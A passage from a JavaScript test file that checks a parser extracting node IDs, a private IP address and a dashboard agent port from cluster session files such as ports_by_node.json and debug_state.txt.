    `${SESSION}/ports_by_node.json`,
  );
  expect(entitiesOf(ports)).toContain('ip:10.0.0.7:node');
  const port = one('52365', `${SESSION}/dashboard_agent_listen_port_${NODE}`);
  expect(fieldsOf(port).node_id).toBe(NODE);
  const dump = one(
    `NodeManager:\nNode ID: ${NODE}\nNode name: 10.0.0.7\n`,
    `${SESSION}/logs/debug_state.txt`,
  );
  expect(fieldsOf(dump)).toMatchObject({ node_id: NODE, node_name: '10.0.0.7' });
});
